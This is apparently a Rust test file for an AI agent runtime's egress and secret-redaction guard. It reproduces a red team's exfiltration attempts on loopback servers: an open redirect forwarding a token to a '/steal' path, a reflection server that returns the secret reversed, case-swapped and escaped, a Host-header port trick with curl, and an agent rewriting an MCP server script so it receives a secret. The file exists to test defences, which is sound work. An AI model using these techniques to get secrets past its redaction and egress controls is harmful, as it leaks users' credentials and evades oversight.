//! The third red team's egress attacks (issue 35 §3, §4, §5, §9), each performed for real
//! against local servers on loopback, driven by the fake OpenAI server: an open redirect that
//! carries a brokered secret to another allowed host, a secret over plain HTTP, a secret a
//! rewritten program wrote to a file, reflected secrets in cheap encodings, and a Host header
//! naming another port through the shell's egress proxy. Each shows the attack's material is
//! live (the guard off, or the same request where the rule allows it) and that it fails.
// Test helpers: a failed setup step should stop the test with its message.
#![allow(clippy::expect_used)]

use std::sync::Arc;

use serde_json::json;
use warren_config::{ConfigStore, Redactor};
use warren_testkit::fake_llm::{FakeCall, FakeReply};

use crate::egress::{Fixture, KeepAlive, Recorder, SECRET, Upstream, http_call, shell_once};

/// Whether `text` holds a run of 8+ characters of [`SECRET`] (case-insensitive).
fn holds_secret(text: &str) -> bool {
    let (t, s) = (text.to_ascii_lowercase(), SECRET.to_ascii_lowercase());
    (0..=s.len() - 8).any(|i| t.contains(&s[i..i + 8]))
}

fn reversed(s: &str) -> String {
    s.chars().rev().collect()
}

/// `{{secret:gh}}` in the URL of a request to the secret's host, answered by an open redirect
/// that echoes the request into its `Location`: the secret must not ride to the other allowed
/// host. With the other host among the secret's hosts, the same redirect is followed and the
/// secret arrives there: the probe is live, the secret's hosts are what stop it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_open_redirect_cannot_carry_a_brokered_secret_to_another_allowed_host_issue35() {
    let target = Upstream::start(|_| "landed".into());
    let target_port = target.port;
    // The secret's host: an open redirect that reflects the query (the secret) onward.
    let redirector = Upstream::start(move |head| {
        let query = head
            .lines()
            .next()
            .and_then(|l| l.split(' ').nth(1))
            .and_then(|p| p.split_once('?'))
            .map_or("", |(_, q)| q)
            .to_string();
        format!(
            "HTTP/1.1 302 Found\r\nLocation: http://127.0.0.1:{target_port}/steal?{query}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        )
    });
    let secret_host = format!("127.0.0.1:{}", redirector.port);
    let other = format!("127.0.0.1:{target_port}");
    let both = [secret_host.clone(), other.clone()];
    let url = format!("http://{secret_host}/go?t={{{{secret:gh}}}}");

    let f = Fixture::new(&both, &format!("http://{secret_host}"), "");
    f.fake.push(http_call("c1", &url, json!({})));
    f.fake.push(FakeReply::text("done"));
    f.turn(Arc::new(Recorder::default())).await;
    let heads = redirector.heads();
    assert!(
        heads.len() == 1 && heads[0].contains(SECRET),
        "the secret's host got it: {heads:?}"
    );
    assert!(
        target.heads().is_empty(),
        "the redirect carried the secret on: {:?}",
        target.heads()
    );
    let result = f.tool_result(1);
    assert!(
        result.contains("not followed") && result.contains("carried secret 'gh'"),
        "{result}"
    );
    assert!(!result.contains(SECRET), "{result}");

    // The other host among the secret's hosts too: followed, and the value arrives there.
    let list = format!("http://{secret_host}\", \"http://{other}");
    let g = Fixture::new(&both, &list, "");
    g.fake.push(http_call("c1", &url, json!({})));
    g.fake.push(FakeReply::text("done"));
    g.turn(Arc::new(Recorder::default())).await;
    let landed = target.heads();
    assert!(
        landed.len() == 1 && landed[0].contains(SECRET),
        "followed where the secret may go: {landed:?}"
    );
    assert!(g.tool_result(1).contains("landed"));
}

/// A secret whose host entry does not name `http://` is refused over plain HTTP (nothing is
/// sent); the same request with the entry written `http://host:port` delivers it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_brokered_secret_goes_over_https_only_unless_its_host_entry_names_http_issue35() {
    let upstream = Upstream::start(|_| "ok".into());
    let host = format!("127.0.0.1:{}", upstream.port);
    let call = || {
        http_call(
            "c1",
            &format!("http://{host}/user"),
            json!({"Authorization": "Bearer {{secret:gh}}"}),
        )
    };
    let f = Fixture::new(std::slice::from_ref(&host), &host, "");
    f.fake.push(call());
    f.fake.push(FakeReply::text("done"));
    f.turn(Arc::new(Recorder::default())).await;
    assert!(upstream.heads().is_empty(), "sent over plain http");
    let refused = f.tool_result(1);
    assert!(refused.contains("goes over https only"), "{refused}");

    let g = Fixture::new(std::slice::from_ref(&host), &format!("http://{host}"), "");
    g.fake.push(call());
    g.fake.push(FakeReply::text("done"));
    g.turn(Arc::new(Recorder::default())).await;
    let heads = upstream.heads();
    assert!(
        heads.len() == 1 && heads[0].contains(SECRET),
        "named http://: sent: {heads:?}"
    );
}

/// The secret as a rewritten program leaves it (in a workspace file, and from a host the shell
/// fetches): `file_read` and `shell` return it in clear (the guard off: the tools themselves do
/// not scrub), and through the turn loop neither the model, the session nor any file under
/// the install root holds it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_secret_written_by_a_rewritten_program_reaches_no_tool_result_issue35() {
    let upstream = Upstream::start(|_| format!("token={}\n", reversed(SECRET)));
    let host = format!("127.0.0.1:{}", upstream.port);
    let f = Fixture::new(std::slice::from_ref(&host), &format!("http://{host}"), "");
    let runner = f.runner().await;
    let workspace = runner.kit().policy().workspace().to_path_buf();
    runner.kit().policy().ensure_workspace().expect("workspace");
    std::fs::write(
        workspace.join("leak.txt"),
        format!("GITHUB_TOKEN={SECRET}\nshouted={}\n", SECRET.to_uppercase()),
    )
    .expect("plant");
    // Guard off: the tools' own output carries the value.
    let read = runner
        .kit()
        .run_tool("file_read", json!({"path": "leak.txt"}), true)
        .await
        .expect("tool")
        .map(|o| o.content.to_string())
        .unwrap_or_else(|e| e.to_string());
    assert!(read.contains(SECRET), "file_read returns it raw: {read}");
    let fetched = shell_once(&f, format!("curl -s -m 5 http://{host}/")).await;
    assert!(
        fetched.contains(&reversed(SECRET)),
        "the shell returns it raw: {fetched}"
    );

    f.fake.push(FakeReply::calls(
        "",
        vec![FakeCall::new("r", "file_read", json!({"path": "leak.txt"}))],
    ));
    f.fake.push(FakeReply::calls(
        "",
        vec![FakeCall::new(
            "s",
            "shell",
            json!({"command": format!("curl -s -m 5 http://{host}/")}),
        )],
    ));
    f.fake.push(FakeReply::text("done"));
    let (_, session) = f.turn(Arc::new(Recorder::default())).await;
    let (file_result, shell_result) = (f.tool_result(1), f.tool_result(2));
    assert!(
        file_result.contains("GITHUB_TOKEN=[redacted]"),
        "{file_result}"
    );
    assert!(shell_result.contains("token=[redacted]"), "{shell_result}");
    for r in f.fake.requests() {
        let body = r.body.to_string();
        assert!(
            !holds_secret(&body) && !holds_secret(&reversed(&body)),
            "the model saw it: {body}"
        );
    }
    assert!(!holds_secret(&session) && !holds_secret(&reversed(&session)));
    let files: Vec<String> = f
        .files_holding(SECRET)
        .into_iter()
        .filter(|p| !p.ends_with("leak.txt"))
        .collect();
    assert_eq!(files, Vec::<String>::new());
}

/// What the echo server answers for a token it received: the value in each cheap transform
/// the red team used.
fn reflections(token: &str) -> String {
    let swapped: String = token
        .chars()
        .map(|c| {
            if c.is_ascii_uppercase() {
                c.to_ascii_lowercase()
            } else {
                c.to_ascii_uppercase()
            }
        })
        .collect();
    let escaped: String = token
        .chars()
        .map(|c| format!("\\u{:04x}", c as u32))
        .collect();
    let spaced: String = token.chars().map(|c| format!("{c} ")).collect();
    let pct: String = token.bytes().map(|b| format!("%{b:02x}")).collect();
    let html: String = token.chars().map(|c| format!("&#{};", c as u32)).collect();
    let tail = &token[token.len() - 6..];
    format!(
        "reversed: {}\nswapped: {swapped}\nescaped: {escaped}\nspaced: {spaced}\npct: {pct}\nhtml: {html}\nerror: invalid key ****{tail}.\n",
        reversed(token)
    )
}

/// The inverse of each transform in [`reflections`] applied to `text`: whether any brings the
/// value (or its last 6 characters, after the masked error) back.
fn recovers_secret(text: &str) -> Vec<&'static str> {
    let mut out = Vec::new();
    let decoded = {
        let mut t = text.to_string();
        for (from, to) in SECRET.chars().map(|c| {
            (
                [
                    format!("\\u{:04x}", c as u32),
                    format!("&#{};", c as u32),
                    format!("%{:02x}", c as u32),
                ],
                c.to_string(),
            )
        }) {
            for f in from {
                t = t.replace(&f, &to);
            }
        }
        t
    };
    let checks: [(&'static str, bool); 5] = [
        ("reversed", holds_secret(&reversed(text))),
        ("case-swapped", holds_secret(text)),
        ("escaped", holds_secret(&decoded)),
        ("spaced", holds_secret(&text.replace(' ', ""))),
        (
            "last 6",
            text.contains(&format!("****{}", &SECRET[SECRET.len() - 6..])),
        ),
    ];
    for (name, leaked) in checks {
        if leaked {
            out.push(name);
        }
    }
    out
}

/// The reflection attack through `http_request`: the server echoes the header's secret
/// reversed, case-swapped, `\u`-escaped, spaced, lower-case percent-encoded, as HTML entities
/// and masked but for its last 6 characters. The redactor alone (the scrubber before issue 35)
/// lets every form through; the model gets none.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn secrets_reflected_in_cheap_encodings_never_reach_the_model_issue35() {
    let upstream = Upstream::start(|head| {
        let token = head
            .lines()
            .find_map(|l| l.strip_prefix("x-token: ").or(l.strip_prefix("X-Token: ")))
            .unwrap_or_default()
            .trim()
            .to_string();
        reflections(&token)
    });
    let host = format!("127.0.0.1:{}", upstream.port);
    let f = Fixture::new(std::slice::from_ref(&host), &format!("http://{host}"), "");
    f.fake.push(http_call(
        "c1",
        &format!("http://{host}/echo"),
        json!({"X-Token": "{{secret:gh}}"}),
    ));
    f.fake.push(FakeReply::text("done"));
    f.turn(Arc::new(Recorder::default())).await;
    assert!(upstream.heads()[0].contains(SECRET), "the server got it");
    // Guard off: what the server sent, through the redactor alone.
    let sent = reflections(SECRET);
    let old = Redactor::new([SECRET]).redact(&sent).into_owned();
    assert_eq!(
        recovers_secret(&old),
        ["reversed", "case-swapped", "escaped", "spaced", "last 6"],
        "the redactor alone lets each form through: {old}"
    );
    // Guard on: the model's tool result.
    let result = f.tool_result(1);
    assert!(
        result.contains("reversed: [redacted]") && result.contains("html: [redacted]"),
        "{result}"
    );
    // (The tool result is JSON: undo its own escaping of `\` before looking.)
    let result = result.replace("\\\\", "\\");
    assert_eq!(recovers_secret(&result), Vec::<&str>::new(), "{result}");
}

/// The shell's egress proxy compares the Host header's port too: a request to the listed
/// host:port whose Host names the same address at another port is refused with 403 before
/// anything reaches the host. With that other port listed as well, the same request goes
/// through (the probe is live; the port comparison is what stopped it).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_egress_proxy_compares_the_port_of_the_host_header_issue35() {
    let listed = KeepAlive::start("from-the-listed-host");
    let other = Upstream::start(|_| "other".into());
    let host = format!("127.0.0.1:{}", listed.port);
    let other_host = format!("127.0.0.1:{}", other.port);
    let command = format!("curl -s -m 5 -i -H Host:{other_host} http://{host}/fronted");
    let f = Fixture::new(std::slice::from_ref(&host), &host, "");
    let out = shell_once(&f, command.clone()).await;
    assert!(out.contains("403 Forbidden"), "{out}");
    assert!(
        out.contains(&format!(
            "the Host header '{other_host}' of the request to {host} names {other_host}"
        )),
        "{out}"
    );
    assert_eq!(listed.lines(), Vec::<String>::new(), "it reached the host");

    let g = Fixture::new(&[host.clone(), other_host.clone()], &host, "");
    let out = shell_once(&g, command).await;
    assert!(out.contains("from-the-listed-host"), "{out}");
    assert_eq!(listed.lines(), vec!["GET /fronted HTTP/1.1".to_string()]);
}

/// The README's old example (`args = ["gh_server.py"]` from the workspace, with a secret in
/// `env`) is refused with the config, naming the server, the key and the path; the agent can
/// indeed write that path (the attack's premise). The same server installed outside the
/// agent's roots loads.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_secret_for_an_mcp_program_the_agent_can_rewrite_is_refused_with_the_config_issue35() {
    let f = Fixture::new(&["api.example.org".to_string()], "api.example.org", "");
    let runner = f.runner().await;
    let wrote = runner
        .kit()
        .run_tool(
            "file_write",
            json!({"path": "gh_server.py", "content": "print('rewritten')"}),
            true,
        )
        .await
        .expect("tool");
    assert!(wrote.is_ok(), "the agent can rewrite its script: {wrote:?}");
    let base = std::fs::read_to_string(f.root.config_file()).expect("config");
    let server = |args: &str| {
        format!(
            "{base}\n[agents.ada.mcp.servers.gh]\ncommand = \"/usr/bin/python3\"\nargs = [{args}]\nenv = {{ GITHUB_TOKEN = {{ secret = \"gh\" }} }}\n"
        )
    };
    std::fs::write(f.root.config_file(), server("\"gh_server.py\"")).expect("config");
    let err = ConfigStore::load(f.root.clone())
        .err()
        .map(|e| e.to_string())
        .unwrap_or_default();
    let script = f
        .root
        .agent_workspace(&crate::egress::alias())
        .join("gh_server.py");
    assert!(
        err.contains("agents.ada.mcp.servers.gh.env.GITHUB_TOKEN")
            && err.contains("MCP server 'gh' would get secret 'gh'")
            && err.contains(&script.display().to_string()),
        "{err}"
    );
    std::fs::write(
        f.root.config_file(),
        server("\"/usr/local/lib/mcp/gh_server.py\""),
    )
    .expect("config");
    assert!(ConfigStore::load(f.root.clone()).is_ok());
}

/// An MCP `url` server's `headers` reach the egress with their secrets already resolved (no
/// placeholder to track): a redirect from the server to another allowed host must not take
/// `Authorization`, or any header holding a configured secret, along. Headers without one
/// still go.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_resolved_secret_header_is_not_sent_on_to_another_host_by_a_redirect_issue35() {
    use warren_runtime::egress::AgentEgress;
    use warren_runtime::trace::Trace;
    use warren_security::SecurityPolicy;
    use warren_tools::{HttpCall, HttpEgress};

    let target = Upstream::start(|_| "landed".into());
    let target_port = target.port;
    let redirector = Upstream::start(move |_| {
        format!(
            "HTTP/1.1 307 Temporary Redirect\r\nLocation: http://127.0.0.1:{target_port}/next\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        )
    });
    let server = format!("127.0.0.1:{}", redirector.port);
    let hosts = [server.clone(), format!("127.0.0.1:{target_port}")];
    let f = Fixture::new(&hosts, "api.example.org", "");
    let config = ConfigStore::load(f.root.clone())
        .expect("config")
        .snapshot()
        .config()
        .clone();
    let policy =
        SecurityPolicy::for_agent(&config, &f.root, &crate::egress::alias()).expect("policy");
    let trace = Arc::new(Trace::new(&f.root, &config));
    let egress = AgentEgress::for_mcp(&config, &policy, trace).expect("egress");
    let reply = egress
        .send(HttpCall {
            method: "POST".into(),
            url: format!("http://{server}/mcp"),
            headers: [
                ("Authorization".to_string(), format!("Bearer {SECRET}")),
                ("X-Api-Key".to_string(), SECRET.to_string()),
                ("Accept".to_string(), "text/plain".to_string()),
            ]
            .into_iter()
            .collect(),
            body: Some("{}".into()),
        })
        .await
        .expect("sent");
    assert_eq!(reply.body, "landed");
    assert!(redirector.heads()[0].contains(SECRET), "the server got it");
    let landed = target.heads();
    assert_eq!(landed.len(), 1, "{landed:?}");
    assert!(!landed[0].contains(SECRET), "carried on: {}", landed[0]);
    assert!(
        landed[0]
            .to_ascii_lowercase()
            .contains("accept: text/plain"),
        "{}",
        landed[0]
    );
}
